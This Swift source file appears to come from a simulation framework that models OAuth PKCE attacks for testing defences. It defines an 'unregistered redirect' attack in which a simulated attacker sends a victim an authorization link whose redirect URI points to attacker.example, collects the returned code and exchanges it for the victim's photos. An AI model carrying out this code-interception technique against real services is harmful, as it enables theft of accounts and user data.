import FlowsShared
import HTTPModel
import Simulation
import TranscriptModel
import Vocabulary
import WireFormats

extension PKCEAttacks {
  static let redirectUnregistered = Attack(
    "redirect-unregistered",
    "a link asks in the photo app's name for an answer that goes to the attacker's server",
    powers: [.sendsLink, .runsServer], goal: .attackerHoldsPhotos,
    defence: .redirectURIRegistered, reference: .rfc9700("4.1"), victimBegins: false,
    attacker: { CollectingServer($0) })
}

/// Sends the victim a link to the real server, and waits for the code at a server of its own.
actor CollectingServer: Attacker, HTTPServer {
  nonisolated let title = "sends a link, and collects the answer at a server of its own"
  nonisolated let tools: AttackerTools
  nonisolated let hosts: [WireText] = ["attacker.example"]

  private let verifier: WireText

  init(_ tools: AttackerTools) {
    self.tools = tools
    verifier = tools.madeUp(32, for: "code_verifier")
  }

  func prepare() async {
    await tools.readMetadata()
    let link = URI(PKCEWorld.authorizationEndpoint).adding([
      FormParameter(ParameterName.responseType.rawValue, "code"),
      FormParameter(ParameterName.clientID.rawValue, PKCEWorld.clientID),
      FormParameter(ParameterName.redirectURI.rawValue, Self.redirectURI),
      FormParameter(ParameterName.scope.rawValue, "openid photos"),
      FormParameter(
        ParameterName.codeChallenge.rawValue,
        ChallengeEncoding.base64URL.challenge(of: verifier)),
      FormParameter(ParameterName.codeChallengeMethod.rawValue, CodeChallengeMethod.s256.rawValue),
    ])
    await tools.seat.handOff(
      Handoff(action: "send", url: link), as: .link, to: .user)
  }

  func respond(to request: HTTPRequest) async -> Answer {
    if let code = request.url.queryParameters[ParameterName.code.rawValue] {
      await tools.takePhotos(
        tools.form(code: code, redirectURI: Self.redirectURI, proof: tools.verifier(verifier)))
    }
    return Answer(Page.message("Thank you"))
  }

  private static let redirectURI: WireText = "https://attacker.example/thank-you"
}
